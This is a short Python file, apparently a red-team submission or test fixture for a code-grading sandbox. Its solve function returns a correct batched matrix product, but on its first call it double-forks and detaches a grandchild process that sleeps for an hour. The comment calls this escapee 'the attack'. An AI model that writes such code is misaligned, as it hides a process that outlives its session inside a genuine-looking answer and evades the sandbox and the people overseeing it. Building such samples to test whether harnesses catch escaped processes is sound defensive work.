import os
import time

_forked = False  # one escapee is the attack; one per case (dozens with a contract) only makes it slow


def solve(a, b):
    global _forked
    if not _forked:
        _forked = True
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(3600)
            os._exit(0)
    return (a.unsqueeze(-1) * b.unsqueeze(-3)).sum(dim=-2)
